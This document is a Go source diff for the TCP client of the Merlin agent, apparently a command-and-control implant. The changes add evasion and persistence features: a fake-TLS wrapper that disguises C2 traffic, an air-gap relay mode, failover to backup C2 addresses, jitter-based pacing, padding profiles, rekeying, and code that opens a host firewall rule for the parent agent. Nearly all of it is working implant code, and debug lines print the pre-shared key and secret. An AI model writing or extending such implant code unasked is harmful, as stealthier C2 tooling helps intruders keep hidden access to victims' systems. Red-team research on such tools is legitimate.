@@ -23,13 +23,9 @@ package tcp
 
 import (
 	// Standard
-	"bytes"
 	"crypto/sha256"
-	"encoding/binary"
-	"encoding/gob"
 	"fmt"
 	"io"
-	"math/rand"
 	"net"
 	"strconv"
 	"strings"
@@ -44,23 +40,29 @@ import (
 
 	// Internal
 	"github.com/Ne0nd0g/merlin-agent/v2/authenticators"
-	"github.com/Ne0nd0g/merlin-agent/v2/authenticators/none"
-	"github.com/Ne0nd0g/merlin-agent/v2/authenticators/opaque"
+	"github.com/Ne0nd0g/merlin-agent/v2/authenticators/chain"
 	"github.com/Ne0nd0g/merlin-agent/v2/cli"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/backup"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/pace"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/padding"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/prekey"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/rekey"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/throttle"
 	"github.com/Ne0nd0g/merlin-agent/v2/core"
+	"github.com/Ne0nd0g/merlin-agent/v2/firewall"
+	"github.com/Ne0nd0g/merlin-agent/v2/heap"
+	"github.com/Ne0nd0g/merlin-agent/v2/p2p/airgap"
+	"github.com/Ne0nd0g/merlin-agent/v2/p2p/faketls"
+	"github.com/Ne0nd0g/merlin-agent/v2/p2p/frame"
 	transformer "github.com/Ne0nd0g/merlin-agent/v2/transformers"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encoders/base64"
-	gob2 "github.com/Ne0nd0g/merlin-agent/v2/transformers/encoders/gob"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encoders/hex"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encrypters/aes"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encrypters/jwe"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encrypters/rc4"
-	"github.com/Ne0nd0g/merlin-agent/v2/transformers/encrypters/xor"
+	"github.com/Ne0nd0g/merlin-agent/v2/transformers/chains"
 )
 
 const (
 	BIND    = 0
 	REVERSE = 1
+	AIRGAP  = 2
 )
 
 // Client is a type of MerlinClient that is used to send and receive Merlin messages from the Merlin server
@@ -72,27 +74,41 @@ type Client struct {
 	authenticator authenticators.Authenticator // authenticator the method the Agent will use to authenticate to the server
 	connected     chan bool                    // connected is a channel that is used to track if the Agent is connected to a Parent
 	connection    net.Conn                     // connection the network socket connection used to handle traffic
+	backup        string                       // backup the number of consecutive failures before a backup address is promoted and how often the primary is retried (e.g., 3:15m)
+	endpoints     *backup.List                 // endpoints tracks the health of a tcp-reverse client's addresses in priority order; nil with one address
 	listener      net.Listener                 // listener the network socket connection listening for traffic
 	listenerID    uuid.UUID                    // listenerID the UUID of the listener that this Agent is configured to communicate with
-	paddingMax    int                          // paddingMax the maximum amount of random padding to apply to every Base message
-	psk           string                       // psk the pre-shared key used for encrypting messages until authentication is complete
-	secret        []byte                       // secret the key used to encrypt messages
+	obfuscation   string                       // obfuscation the wrapper used to disguise the TCP traffic (e.g., faketls)
+	pace          *pace.Pacer                  // pace spaces out the messages sent upstream by a sleep time with jitter
+	padding       *padding.Profile             // padding selects the amount of random padding added to each Base message
+	throttle      *throttle.Limiter            // throttle limits the rate, in bytes per second, that data is sent
+	rekey         *rekey.Schedule              // rekey tracks when the secret is replaced with a new one derived from it
+	psk           heap.Secret                  // psk the pre-shared key used for encrypting messages until authentication is complete
+	psks          []heap.Secret                // psks is the ordered list of Pre-Shared Keys tried when a message can't be decrypted with the secret
+	reader        *frame.Reader                // reader reads the length-framed messages from the current connection
+	secret        heap.Secret                  // secret the key used to encrypt messages
 	sending       bool                         // sending is a flag that is used to track if the Agent is currently sending a message
-	transformers  []transformer.Transformer    // Transformers an ordered list of transforms (encoding/encryption) to apply when constructing a message
+	transformers  [][]transformer.Transformer  // transformers the chains of transforms (encoding/encryption) to apply when constructing a message; one chain is picked for each message
 	mode          int                          // mode the type of client or communication mode (e.g., BIND or REVERSE)
 	sync.Mutex                                 // used to lock the Client when changes are being made by one function or routine
 }
 
 // Config is a structure that is used to pass in all necessary information to instantiate a new Client
 type Config struct {
-	Address      []string  // Address the interface and port the agent will bind to
+	Address      []string  // Address the interface and port the agent will bind to, or for tcp-reverse a comma separated list of addresses in priority order
 	AgentID      uuid.UUID // AgentID the Agent's UUID
 	AuthPackage  string    // AuthPackage the type of authentication the agent should use when communicating with the server
+	Backup       string    // Backup the number of consecutive failures before a backup address is promoted and how often the primary is retried (e.g., 3:15m)
 	ListenerID   uuid.UUID // ListenerID the UUID of the listener that this Agent is configured to communicate with
-	Padding      string    // Padding the max amount of data that will be randomly selected and appended to every message
-	PSK          string    // PSK the Pre-Shared Key secret the agent will use to start authentication
-	Transformers string    // Transformers is an ordered comma seperated list of transforms (encoding/encryption) to apply when constructing a message
-	Mode         string    // Mode the type of client or communication mode (e.g., BIND or REVERSE)
+	Obfuscation  string    // Obfuscation the wrapper used to disguise the TCP traffic (e.g., faketls)
+	Padding      string    // Padding the padding profile: the max amount of random data appended to every message (e.g., 4096) or size distributions per message type (e.g., checkin=lognormal:600:0.5;normal:2048:512)
+	Throttle     string    // Throttle the maximum rate, in bytes per second, that data is sent (e.g., 512K); empty is unlimited
+	Sleep        string    // Sleep the minimum time between messages sent upstream (e.g., 30s); empty or 0 sends at the parent's cadence
+	Jitter       string    // Jitter the percentage, 0 to 100, of the Sleep that is randomly added or subtracted
+	Rekey        string    // Rekey is the message count and/or interval (e.g., 100,30m) after which a new secret is derived; empty never rekeys
+	PSK          string    // PSK the Pre-Shared Key secret the agent will use to start authentication, or a comma separated, ordered list of them
+	Transformers string    // Transformers is an ordered comma seperated list of transforms (encoding/encryption) to apply when constructing a message; multiple lists separated by a semicolon are chains and one is picked at random for each message
+	Mode         string    // Mode the type of client or communication mode (e.g., BIND, REVERSE, or AIRGAP)
 }
 
 // New instantiates and returns a Client that is constructed from the passed in Config
@@ -115,90 +131,88 @@ func New(config Config) (*Client, error) {
 		client.mode = BIND
 	case "tcp-reverse":
 		client.mode = REVERSE
+	case "airgap":
+		client.mode = AIRGAP
 	default:
 		client.mode = BIND
 	}
 
 	client.listenerID = config.ListenerID
-	client.psk = config.PSK
+	client.psks = heap.NewSecrets(clients.PSKs(config.PSK))
+	client.psk = client.psks[0]
 
 	// Parse Address and validate it
 	if len(config.Address) <= 0 {
 		return nil, fmt.Errorf("a configuration address value was not provided")
 	}
-	_, err := net.ResolveTCPAddr("tcp", config.Address[0])
+	client.backup = config.Backup
+	err := client.setAddress(config.Address[0])
 	if err != nil {
 		return nil, err
 	}
-	client.address = config.Address[0]
+
+	// Obfuscation
+	if faketls.Enabled(config.Obfuscation) {
+		client.obfuscation = "faketls"
+	} else if config.Obfuscation != "" && strings.ToLower(config.Obfuscation) != "none" {
+		return nil, fmt.Errorf("clients/tcp.New(): unhandled obfuscation type: %s", config.Obfuscation)
+	}
 
 	// Set secret for encryption
-	k := sha256.Sum256([]byte(client.psk))
-	client.secret = k[:]
-	cli.Message(cli.DEBUG, fmt.Sprintf("new client PSK: %s", client.psk))
-	cli.Message(cli.DEBUG, fmt.Sprintf("new client Secret: %x", client.secret))
-
-	//Convert Padding from string to an integer
-	if config.Padding != "" {
-		client.paddingMax, err = strconv.Atoi(config.Padding)
-		if err != nil {
-			return &client, fmt.Errorf("there was an error converting the padding max to an integer:\r\n%s", err)
-		}
-	} else {
-		client.paddingMax = 0
+	k := sha256.Sum256(client.psk.Open())
+	client.secret = heap.NewSecret(k[:])
+	cli.Message(cli.DEBUG, fmt.Sprintf("new client PSK: %s", client.psk.Open()))
+	cli.Message(cli.DEBUG, fmt.Sprintf("new client Secret: %x", client.secret.Open()))
+
+	// Message padding profile
+	client.padding, err = padding.New(config.Padding)
+	if err != nil {
+		return &client, fmt.Errorf("clients/tcp.New(): %s", err)
 	}
 
-	// Authenticator
-	switch strings.ToLower(config.AuthPackage) {
-	case "opaque":
-		client.authenticator = opaque.New(config.AgentID)
-	case "none":
-		client.authenticator = none.New(config.AgentID)
-	default:
-		return nil, fmt.Errorf("an authenticator must be provided (e.g., 'opaque'")
+	// Outbound bandwidth throttle
+	client.throttle, err = throttle.New(config.Throttle)
+	if err != nil {
+		return nil, fmt.Errorf("clients/tcp.New(): %s", err)
+	}
+
+	// Upstream polling sleep and jitter
+	client.pace, err = pace.New(config.Sleep, config.Jitter)
+	if err != nil {
+		return nil, fmt.Errorf("clients/tcp.New(): %s", err)
+	}
+
+	// Session rekey schedule
+	client.rekey, err = rekey.New(config.Rekey)
+	if err != nil {
+		return nil, fmt.Errorf("clients/tcp.New(): %s", err)
+	}
+
+	// Authenticator, or a comma separated list that is an ordered chain of authenticators that must all succeed (e.g., none,opaque)
+	client.authenticator, err = chain.Select(config.AgentID, config.AuthPackage)
+	if err != nil {
+		return nil, err
 	}
 
 	// Transformers
-	transforms := strings.Split(config.Transformers, ",")
-	for _, transform := range transforms {
-		var t transformer.Transformer
-		switch strings.ToLower(transform) {
-		case "aes":
-			t = aes.NewEncrypter()
-		case "base64-byte":
-			t = base64.NewEncoder(base64.BYTE)
-		case "base64-string":
-			t = base64.NewEncoder(base64.STRING)
-		case "gob-base":
-			t = gob2.NewEncoder(gob2.BASE)
-		case "gob-string":
-			t = gob2.NewEncoder(gob2.STRING)
-		case "hex-byte":
-			t = hex.NewEncoder(hex.BYTE)
-		case "hex-string":
-			t = hex.NewEncoder(hex.STRING)
-		case "jwe":
-			t = jwe.NewEncrypter()
-		case "rc4":
-			t = rc4.NewEncrypter()
-		case "xor":
-			t = xor.NewEncrypter()
-		default:
-			err := fmt.Errorf("clients/tcp.New(): unhandled transform type: %s", transform)
-			if err != nil {
-				return nil, err
-			}
-		}
-		client.transformers = append(client.transformers, t)
+	// Multiple transformer chains are separated by a semicolon and one is picked at random for each message
+	client.transformers, err = chains.New(config.Transformers)
+	if err != nil {
+		return nil, fmt.Errorf("clients/tcp.New(): %s", err)
 	}
 
 	cli.Message(cli.INFO, "Client information:")
 	cli.Message(cli.INFO, fmt.Sprintf("\tProtocol: %s", &client))
 	cli.Message(cli.INFO, fmt.Sprintf("\tAddress: %s", client.address))
+	if client.endpoints != nil {
+		cli.Message(cli.INFO, fmt.Sprintf("\tBackup: %s", client.endpoints))
+	}
 	cli.Message(cli.INFO, fmt.Sprintf("\tListener: %s", client.listenerID))
 	cli.Message(cli.INFO, fmt.Sprintf("\tAuthenticator: %s", client.authenticator))
 	cli.Message(cli.INFO, fmt.Sprintf("\tTransforms: %+v", client.transformers))
-	cli.Message(cli.INFO, fmt.Sprintf("\tPadding: %d", client.paddingMax))
+	cli.Message(cli.INFO, fmt.Sprintf("\tRekey: %s", client.rekey))
+	cli.Message(cli.INFO, fmt.Sprintf("\tObfuscation: %s", client.obfuscation))
+	cli.Message(cli.INFO, fmt.Sprintf("\tPadding: %s", client.padding))
 
 	return &client, nil
 }
@@ -233,11 +247,23 @@ func (client *Client) Authenticate(msg messages.Base) (err error) {
 	}
 	var authenticated bool
 	// Reset the Agent's PSK
-	k := sha256.Sum256([]byte(client.psk))
+	k := sha256.Sum256(client.psk.Open())
 	client.Lock()
-	client.secret = k[:]
+	client.secret = heap.NewSecret(k[:])
 	client.Unlock()
 
+	// Agree on an ephemeral pre-authentication secret so that the PSK alone can't decrypt the authentication messages
+	if prekey.Enabled() {
+		var secret []byte
+		secret, err = prekey.Agree(client.agentID, client.SendAndWait, string(client.psk.Open()))
+		if err != nil {
+			return
+		}
+		client.Lock()
+		client.secret = heap.NewSecret(secret)
+		client.Unlock()
+	}
+
 	// Repeat until authenticator is complete and Agent is authenticated
 	for {
 		msg, authenticated, err = client.authenticator.Authenticate(msg)
@@ -262,7 +288,8 @@ func (client *Client) Authenticate(msg messages.Base) (err error) {
 			// Don't update the secret if the authenticator returned an empty key
 			if len(key) > 0 {
 				client.Lock()
-				client.secret = key
+				client.secret = heap.NewSecret(key)
+				client.rekey.Reset()
 				client.Unlock()
 			}
 		}
@@ -321,7 +348,16 @@ func (client *Client) Connect() (err error) {
 			if err != nil {
 				return fmt.Errorf("clients/tcp.Connect(): there was an error listening on %s: %s", client.address, err)
 			}
+			if faketls.Enabled(client.obfuscation) {
+				client.listener = faketls.NewListener(client.listener)
+			}
 			cli.Message(cli.NOTE, fmt.Sprintf("Started %s on %s", client, client.address))
+			// Allow the parent Agent through the host firewall; the rule is removed when the Agent exits
+			if opened, errFw := firewall.Listening("tcp", client.address); errFw != nil {
+				cli.Message(cli.WARN, fmt.Sprintf("clients/tcp.Connect(): %s", errFw))
+			} else if opened != "" {
+				cli.Message(cli.NOTE, opened)
+			}
 		}
 
 		// Listen for initial connection from upstream agent
@@ -339,13 +375,45 @@ func (client *Client) Connect() (err error) {
 		client.connected <- true
 		return err
 	case REVERSE:
+		// With a list of addresses, use the primary, or the promoted backup, unless it is time to retry the primary
+		if client.endpoints != nil {
+			_, client.address = client.endpoints.Next()
+		}
 		client.connection, err = net.Dial("tcp", client.address)
 		if err != nil {
+			client.connection = nil
+			if client.endpoints != nil {
+				client.endpoints.Fail()
+			}
 			return fmt.Errorf("clients/tcp.Connect(): there was an error connecting to %s: %s", client.address, err)
 		}
+		if faketls.Enabled(client.obfuscation) {
+			var conn *faketls.Conn
+			conn, err = faketls.Client(client.connection, "")
+			if err != nil {
+				_ = client.connection.Close()
+				client.connection = nil
+				if client.endpoints != nil {
+					client.endpoints.Fail()
+				}
+				return fmt.Errorf("clients/tcp.Connect(): %s", err)
+			}
+			client.connection = conn
+		}
+		if client.endpoints != nil {
+			client.endpoints.Succeed()
+		}
 		cli.Message(cli.SUCCESS, fmt.Sprintf("Successfully connected to %s at %s", client.address, time.Now().UTC().Format(time.RFC3339)))
 		client.connected <- true
 		return nil
+	case AIRGAP:
+		client.connection, err = airgap.Child(client.address)
+		if err != nil {
+			return fmt.Errorf("clients/tcp.Connect(): %s", err)
+		}
+		cli.Message(cli.NOTE, fmt.Sprintf("Relaying messages across an air gap through %s", client.connection.RemoteAddr()))
+		client.connected <- true
+		return nil
 	default:
 		return fmt.Errorf("clients/tcp.Connect(): Unhandled Client mode %d", client.mode)
 	}
@@ -354,17 +422,35 @@ func (client *Client) Connect() (err error) {
 // Construct takes in a messages.Base structure that is ready to be sent to the server and runs all the configured transforms
 // on it to encode and encrypt it.
 func (client *Client) Construct(msg messages.Base) (data []byte, err error) {
-	for i := len(client.transformers); i > 0; i-- {
-		if i == len(client.transformers) {
+	// Replace the secret with the next one derived from it when the rekey schedule is due
+	client.Lock()
+	secret := client.secret.Open()
+	if client.authenticated {
+		secret, err = client.rekey.Next(secret)
+		if err != nil {
+			client.Unlock()
+			return nil, fmt.Errorf("clients/tcp.Construct(): %s", err)
+		}
+		client.secret = heap.NewSecret(secret)
+	}
+	client.Unlock()
+	index, prefix := transformer.Pick(len(client.transformers))
+	transformers := client.transformers[index]
+	for i := len(transformers); i > 0; i-- {
+		if i == len(transformers) {
 			// First call should always take a Base message
-			data, err = client.transformers[i-1].Construct(msg, client.secret)
+			data, err = transformers[i-1].Construct(msg, secret)
 		} else {
-			data, err = client.transformers[i-1].Construct(data, client.secret)
+			data, err = transformers[i-1].Construct(data, secret)
 		}
 		if err != nil {
 			return nil, fmt.Errorf("clients/tcp.Construct(): there was an error calling the transformer construct function: %s", err)
 		}
 	}
+	// The prefix identifies the transformer chain to the server when there is more than one
+	if prefix != nil {
+		data = append(prefix, data...)
+	}
 	return
 }
 
@@ -373,20 +459,40 @@ func (client *Client) Construct(msg messages.Base) (data []byte, err error) {
 func (client *Client) Deconstruct(data []byte) (messages.Base, error) {
 	cli.Message(cli.DEBUG, fmt.Sprintf("clients/tcp.Deconstruct(): entering into function with message: %+v", data))
 	//fmt.Printf("Deconstructing %d bytes with key: %x\n", len(data), client.secret)
-	for _, transform := range client.transformers {
+	index, data, err := transformer.Identify(data, len(client.transformers))
+	if err != nil {
+		return messages.Base{}, fmt.Errorf("clients/tcp.Deconstruct(): %s", err)
+	}
+	client.Lock()
+	secret, previous, psks := client.secret.Open(), client.rekey.Previous(), client.psks
+	client.Unlock()
+	for _, transform := range client.transformers[index] {
 		//fmt.Printf("Transformer %T: %+v\n", transform, transform)
-		ret, err := transform.Deconstruct(data, client.secret)
+		ret, err := transform.Deconstruct(data, secret)
+		if err != nil && previous != nil {
+			// The server may have constructed the message before it followed the Agent to its latest secret
+			ret, err = transform.Deconstruct(data, previous)
+		}
 		if err != nil {
-			cli.Message(cli.WARN, fmt.Sprintf("clients/tcp.Deconstruct(): unable to deconstruct with Agent's secret, retrying with PSK"))
-			// Try to see if the PSK works
-			k := sha256.Sum256([]byte(client.psk))
-			ret, err = transform.Deconstruct(data, k[:])
+			cli.Message(cli.WARN, fmt.Sprintf("clients/tcp.Deconstruct(): unable to deconstruct with Agent's secret, retrying with the PSKs"))
+			// Try each PSK in order and keep the first one that works
+			for _, p := range psks {
+				k := sha256.Sum256(p.Open())
+				ret, err = transform.Deconstruct(data, k[:])
+				if err == nil {
+					// If a PSK worked, assume the agent is unauthenticated to the server
+					secret = k[:]
+					client.Lock()
+					client.authenticated = false
+					client.psk = p
+					client.secret = heap.NewSecret(secret)
+					client.Unlock()
+					break
+				}
+			}
 			if err != nil {
 				return messages.Base{}, err
 			}
-			// If the PSK worked, assume the agent is unauthenticated to the server
-			client.authenticated = false
-			client.secret = k[:]
 		}
 		switch ret.(type) {
 		case []uint8:
@@ -419,7 +525,7 @@ func (client *Client) Listen() (returnMessages []messages.Base, err error) {
 				err = fmt.Errorf("clients/tcp.Listen(): %s", err)
 				return
 			}
-		case REVERSE:
+		case REVERSE, AIRGAP:
 			if !client.sending {
 				// If the Agent's sleep is 0, which isn't known in this package, then there will never be a message to send and this will cause a deadlock
 				// Return a message so that there is a message to send, forcing the communication
@@ -440,73 +546,26 @@ func (client *Client) Listen() (returnMessages []messages.Base, err error) {
 	// Wait for the response
 	cli.Message(cli.NOTE, fmt.Sprintf("Listening for incoming messages from %s on %s at %s...", client.connection.RemoteAddr(), client.connection.LocalAddr(), time.Now().UTC().Format(time.RFC3339)))
 
-	var n int
-	var tag uint32
-	var length uint64
-	var buff bytes.Buffer
-	for {
-		respData := make([]byte, 4096)
-
-		n, err = client.connection.Read(respData)
-		cli.Message(cli.DEBUG, fmt.Sprintf("clients/tcp.Listen(): Read %d bytes from connection %s at %s", n, client.connection.RemoteAddr(), time.Now().UTC().Format(time.RFC3339)))
-		if err != nil {
-			if err == io.EOF {
-				cli.Message(cli.WARN, fmt.Sprintf("clients/tcp.Listen(): received EOF from %s, the Agent's connection has been reset", client.connection.RemoteAddr()))
-				err = nil
-				client.connection = nil
-				return
-			}
-			err = fmt.Errorf("clients/tcp.Listen(): there was an error reading the message from the connection with %s: %s", client.connection.RemoteAddr(), err)
-			client.connection = nil
-			return
-		}
-
-		// Add the bytes to the buffer
-		n, err = buff.Write(respData[:n])
-		if err != nil {
-			err = fmt.Errorf("clients/tcp.Listen(): there was an error writing %d incoming bytes to the local buffer: %s", n, err)
+	// Keep one reader for the life of the connection so bytes of the next message that were read with this one aren't lost
+	if !client.reader.Reads(client.connection) {
+		client.reader = frame.NewReader(client.connection)
+	}
+	data, err := client.reader.Next()
+	if err != nil {
+		if err == io.EOF {
+			cli.Message(cli.WARN, fmt.Sprintf("clients/tcp.Listen(): received EOF from %s, the Agent's connection has been reset", client.connection.RemoteAddr()))
+			err = nil
 			client.connection = nil
 			return
 		}
-
-		// If this is the first read on the connection determine the tag and data length
-		if tag == 0 {
-			// Ensure we have enough data to read the tag/type which is 4-bytes
-			if buff.Len() < 4 {
-				cli.Message(cli.DEBUG, fmt.Sprintf("clients/tcp.Listen(): Need at least 4 bytes in the buffer to read the Type/Tag for TLV but only have %d", buff.Len()))
-				continue
-			}
-			tag = binary.BigEndian.Uint32(respData[:4])
-			if tag != 1 {
-				err = fmt.Errorf("clients/tcp.Listen(): Expected a type/tag value of 1 for TLV but got %d", tag)
-				client.connection = nil
-				return
-			}
-		}
-
-		if length == 0 {
-			// Ensure we have enough data to read the Length from TLV which is 8-bytes plus the 4-byte tag/type size
-			if buff.Len() < 12 {
-				cli.Message(cli.DEBUG, fmt.Sprintf("clients/tcp.Listen(): Need at least 12 bytes in the buffer to read the Length for TLV but only have %d", buff.Len()))
-				continue
-			}
-			length = binary.BigEndian.Uint64(respData[4:12])
-		}
-
-		// If we've read all the data according to the length provided in TLV, then break the for loop
-		// Type/Tag size is 4-bytes, Length size is 8-bytes for TLV
-		if uint64(buff.Len()) == length+4+8 {
-			cli.Message(cli.DEBUG, fmt.Sprintf("clients/tcp.Listen(): Finished reading data length of %d bytes into the buffer and moving forward to deconstruct the data", length))
-			break
-		} else {
-			cli.Message(cli.DEBUG, fmt.Sprintf("clients/tcp.Listen(): Read %d of %d bytes into the buffer", buff.Len(), length))
-		}
+		err = fmt.Errorf("clients/tcp.Listen(): there was an error reading the message from the connection with %s: %s", client.connection.RemoteAddr(), err)
+		client.connection = nil
+		return
 	}
 
-	cli.Message(cli.NOTE, fmt.Sprintf("Read %d bytes from TCP connection %s at %s", buff.Len(), client.connection.RemoteAddr(), time.Now().UTC().Format(time.RFC3339)))
+	cli.Message(cli.NOTE, fmt.Sprintf("Read %d bytes from TCP connection %s at %s", len(data)+frame.HeaderSize, client.connection.RemoteAddr(), time.Now().UTC().Format(time.RFC3339)))
 	var msg messages.Base
-	// Type/Tag size is 4-bytes, Length size is 8-bytes for a total of 12-bytes for TLV
-	msg, err = client.Deconstruct(buff.Bytes()[12:])
+	msg, err = client.Deconstruct(data)
 	if err != nil {
 		err = fmt.Errorf("clients/tcp.Listen(): there was an error deconstructing the data: %s", err)
 		return
@@ -529,7 +588,7 @@ func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err
 			// If the connection is empty and this is a BIND agent, wait here for listener to receive a connection
 			cli.Message(cli.NOTE, fmt.Sprintf("Waiting for a client connection before sending message at %s", time.Now().UTC().Format(time.RFC3339)))
 			<-client.connected
-		case REVERSE:
+		case REVERSE, AIRGAP:
 			// Signal to the listen() function that we are attempting to recover the connection
 			client.Lock()
 			client.sending = true
@@ -556,10 +615,14 @@ func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err
 		cli.Message(cli.INFO, fmt.Sprintf("Authentication completed, continuing with sending held message at %s", time.Now().UTC().Format(time.RFC3339)))
 	}
 
+	// Pace messages sent upstream after authentication so the Agent polls at its own cadence
+	if client.authenticated {
+		client.pace.Wait()
+	}
+
 	// Set the message padding
-	if client.paddingMax > 0 {
-		// #nosec G404 -- Random number does not impact security
-		m.Padding = core.RandStringBytesMaskImprSrc(rand.Intn(client.paddingMax))
+	if size := client.padding.Size(m.Type); size > 0 {
+		m.Padding = core.RandStringBytesMaskImprSrc(size)
 	}
 
 	data, err := client.Construct(m)
@@ -574,31 +637,21 @@ func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err
 		Payload:  data,
 	}
 
-	// Convert messages.Base to gob
+	// Convert messages.Base to gob and add in Tag/Type and Length for TLV
 	// Still need this for agent to agent message encoding
-	delegateBytes := new(bytes.Buffer)
-	err = gob.NewEncoder(delegateBytes).Encode(delegate)
+	outData, err := frame.EncodeDelegate(delegate)
 	if err != nil {
-		err = fmt.Errorf("there was an error encoding the %s message to a gob:\r\n%s", m.Type, err)
+		err = fmt.Errorf("there was an error encoding the %s message: %s", m.Type, err)
 		return
 	}
 
 	cli.Message(cli.NOTE, fmt.Sprintf("Sending %s message to %s at %s", m.Type, client.connection.RemoteAddr(), time.Now().UTC().Format(time.RFC3339)))
 
-	// Add in Tag/Type and Length for TLV
-	tag := make([]byte, 4)
-	binary.BigEndian.PutUint32(tag, 1)
-	length := make([]byte, 8)
-	binary.BigEndian.PutUint64(length, uint64(delegateBytes.Len()))
-
-	// Create TLV
-	outData := append(tag, length...)
-	outData = append(outData, delegateBytes.Bytes()...)
-	cli.Message(cli.DEBUG, fmt.Sprintf("clients/tcp.Send(): Added Tag: %d and Length: %d to data size of %d\n", tag, uint64(delegateBytes.Len()), len(outData)))
+	cli.Message(cli.DEBUG, fmt.Sprintf("clients/tcp.Send(): Added Tag: %d and Length: %d to data size of %d\n", frame.TAG, len(outData)-frame.HeaderSize, len(outData)))
 
 	// Write the message
 	cli.Message(cli.DEBUG, fmt.Sprintf("clients/tcp.Send(): Writing message size: %d to: %s", len(outData), client.connection.RemoteAddr()))
-	n, err := client.connection.Write(outData)
+	n, err := client.throttle.Write(client.connection, outData)
 	if err != nil {
 		err = fmt.Errorf("there was an error writing the message to the connection with %s: %s", client.connection.RemoteAddr(), err)
 		return
@@ -632,16 +685,39 @@ func (client *Client) Get(key string) (value string) {
 	switch strings.ToLower(key) {
 	case "ja3":
 		return ""
-	case "paddingmax":
-		value = strconv.Itoa(client.paddingMax)
+	case "throttle":
+		value = strconv.Itoa(client.throttle.Rate())
 	case "protocol":
 		value = client.String()
+	case "sleep":
+		value = client.pace.Sleep().String()
+	case "jitter":
+		value = strconv.Itoa(client.pace.Jitter())
+	case "backup":
+		value = client.backup
+		if client.endpoints != nil {
+			value = client.endpoints.String()
+		}
+	case "endpoints":
+		if client.endpoints != nil {
+			value = client.endpoints.Status()
+		}
 	default:
 		value = fmt.Sprintf("unknown client configuration setting: %s", key)
 	}
 	return
 }
 
+// Padding returns the profile that selects the amount of random padding added to each Base message
+func (client *Client) Padding() *padding.Profile {
+	return client.padding
+}
+
+// SetPadding replaces the profile that selects the amount of random padding added to each Base message
+func (client *Client) SetPadding(profile *padding.Profile) {
+	client.padding = profile
+}
+
 // Set is a generic function that is used to modify a Client's field values
 func (client *Client) Set(key string, value string) (err error) {
 	cli.Message(cli.DEBUG, fmt.Sprintf("clients/tcp.Set(): entering into function with key: %s, value: %s", key, value))
@@ -651,11 +727,15 @@ func (client *Client) Set(key string, value string) (err error) {
 
 	switch strings.ToLower(key) {
 	case "addr":
-		// Validate the address
-		_, err = net.ResolveTCPAddr("tcp", value)
-		if err != nil {
-			err = fmt.Errorf("clients/tcp.Set(): there was an error parsing the provide address %s : %s", value, err)
-			return
+		// Validate the address before the connection is closed
+		if client.mode != AIRGAP {
+			for _, address := range strings.Split(strings.ReplaceAll(value, " ", ""), ",") {
+				_, err = net.ResolveTCPAddr("tcp", address)
+				if err != nil {
+					err = fmt.Errorf("clients/tcp.Set(): there was an error parsing the provide address %s : %s", address, err)
+					return
+				}
+			}
 		}
 		// Close the connection
 		err = client.connection.Close()
@@ -673,7 +753,19 @@ func (client *Client) Set(key string, value string) (err error) {
 			}
 		}
 		client.listener = nil
-		client.address = value
+		err = client.setAddress(value)
+		if err != nil {
+			err = fmt.Errorf("clients/tcp.Set(): %s", err)
+			return
+		}
+	case "backup":
+		if client.endpoints != nil {
+			err = client.endpoints.Set(value)
+			if err != nil {
+				return
+			}
+		}
+		client.backup = value
 	case "listener":
 		var id uuid.UUID
 		id, err = uuid.Parse(value)
@@ -681,16 +773,57 @@ func (client *Client) Set(key string, value string) (err error) {
 			return fmt.Errorf("clients/tcp.Set(): %s", err)
 		}
 		client.listenerID = id
-	case "paddingmax":
-		client.paddingMax, err = strconv.Atoi(value)
+	case "throttle":
+		err = client.throttle.Set(value)
+	case "sleep":
+		err = client.pace.SetSleep(value)
+	case "jitter":
+		err = client.pace.SetJitter(value)
+	case "psk":
+		// The PSK, or ordered list of them, is replaced along with the secret derived from it so the next
+		// authentication uses the new PSK
+		client.psks = heap.NewSecrets(clients.PSKs(value))
+		client.psk = client.psks[0]
+		k := sha256.Sum256(client.psk.Open())
+		client.secret = heap.NewSecret(k[:])
 	case "secret":
-		client.secret = []byte(value)
+		client.secret = heap.NewSecret([]byte(value))
 	default:
 		err = fmt.Errorf("unknown tcp client setting: %s", key)
 	}
 	return err
 }
 
+// setAddress stores the address, or for a tcp-reverse client a comma separated list of addresses in priority order where
+// the first is the primary and the rest are backups promoted by the health of the addresses. The air gap address is the
+// directory messages are carried through instead of a network address
+func (client *Client) setAddress(value string) error {
+	client.endpoints = nil
+	if client.mode == AIRGAP {
+		client.address = value
+		return nil
+	}
+	addresses := strings.Split(strings.ReplaceAll(value, " ", ""), ",")
+	if len(addresses) > 1 && client.mode != REVERSE {
+		return fmt.Errorf("only a tcp-reverse client accepts a list of addresses but received %s", value)
+	}
+	for _, address := range addresses {
+		_, err := net.ResolveTCPAddr("tcp", address)
+		if err != nil {
+			return err
+		}
+	}
+	client.address = addresses[0]
+	if len(addresses) > 1 {
+		endpoints, err := backup.New(addresses, client.backup)
+		if err != nil {
+			return err
+		}
+		client.endpoints = endpoints
+	}
+	return nil
+}
+
 // String returns the type of TCP client
 func (client *Client) String() string {
 	switch client.mode {
@@ -698,6 +831,8 @@ func (client *Client) String() string {
 		return "tcp-bind"
 	case REVERSE:
 		return "tcp-reverse"
+	case AIRGAP:
+		return "airgap"
 	default:
 		return "tcp-unhandled"
 	}
@@ -711,6 +846,8 @@ func (client *Client) Synchronous() bool {
 		return true
 	case REVERSE:
 		return true
+	case AIRGAP:
+		return true
 	default:
 		return false
 	}